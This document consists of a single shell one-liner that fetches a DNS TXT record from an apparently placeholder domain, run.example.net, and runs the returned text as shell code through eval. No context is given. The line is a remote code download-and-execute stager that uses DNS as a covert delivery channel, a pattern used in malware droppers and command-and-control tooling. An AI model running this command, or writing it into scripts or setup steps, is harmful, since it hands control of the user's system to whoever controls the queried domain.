eval "$(dig +short TXT run.example.net)"
